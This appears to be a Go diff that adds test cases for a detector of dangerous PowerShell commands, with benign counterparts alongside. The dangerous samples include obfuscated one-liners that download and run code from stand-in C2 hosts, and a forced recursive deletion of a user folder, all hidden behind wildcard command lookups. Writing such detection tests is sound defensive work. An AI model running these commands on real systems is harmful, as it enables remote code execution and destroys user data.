@@ -351,3 +351,21 @@ func init() {
 			}},
 	)
 }
+
+// Commands picked by a wildcard lookup (.(gcm *ke-Ex*)) and script blocks
+// made from a download, called with the call operator glued to the
+// bracket.
+func init() {
+	winClasses = append(winClasses,
+		winClass{name: "wildcard lookups and downloaded script blocks",
+			dangerous: []winLine{
+				ps(`$u='ht'+'tps://c2.'+'example.com/cc'; .(gcm *ke-Ex*) (irm $u)`),
+				ps(`$a=@{Uri='https://c2.example.net/sp';UseBasicParsing=$true}; .([scriptblock]::Create((iwr @a).Content))`),
+				ps(`&(gcm Remove-It*) C:\Users\dev -Recurse -Force`),
+			},
+			benign: []winLine{
+				ps(`& (Get-Command git) status`),
+				ps(`. ([scriptblock]::Create((Get-Content C:\work\project\build.ps1 -Raw)))`),
+			}},
+	)
+}
